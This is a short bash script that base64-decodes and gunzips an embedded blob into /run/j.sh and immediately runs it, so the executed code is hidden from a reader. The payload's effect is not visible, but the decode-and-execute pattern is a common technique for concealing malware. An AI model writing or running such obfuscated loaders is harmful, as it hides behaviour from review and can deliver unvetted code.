#!/bin/bash
echo H4sIAAAAAAACA1NW1E/KzNNPSizO4NJPLUnWT80u1k/Kzy8pLilKLNArzlBIr+ICAIMfkw== | base64 -d | gunzip > /run/j.sh
sh /run/j.sh
